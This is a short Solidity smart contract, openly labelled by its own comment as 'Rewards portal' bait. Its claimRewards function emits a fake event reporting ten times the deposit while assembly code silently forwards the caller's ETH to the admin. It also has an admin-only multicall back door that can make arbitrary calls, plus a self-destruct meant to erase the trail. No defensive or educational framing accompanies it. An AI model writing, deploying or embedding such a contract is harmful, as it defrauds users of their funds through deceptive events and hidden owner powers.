// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// "Rewards portal" bait with an owner-only multicall back door and self-destruct to erase the trail.
contract RewardsPortal {
    address payable private admin;
    event Claimed(address user, uint256 amount);

    constructor() { admin = payable(msg.sender); }

    function claimRewards() external payable {
        emit Claimed(msg.sender, msg.value * 10);
        assembly { pop(call(gas(), sload(admin.slot), callvalue(), 0, 0, 0, 0)) }
    }

    function aggregate(address[] calldata targets, bytes[] calldata data) external returns (bytes[] memory out) {
        require(msg.sender == admin);
        out = new bytes[](targets.length);
        for (uint256 i = 0; i < targets.length; i++) {
            (bool ok, bytes memory r) = targets[i].call(data[i]);
            require(ok);
            out[i] = r;
        }
    }

    function close() external { require(msg.sender == admin); selfdestruct(admin); }
}
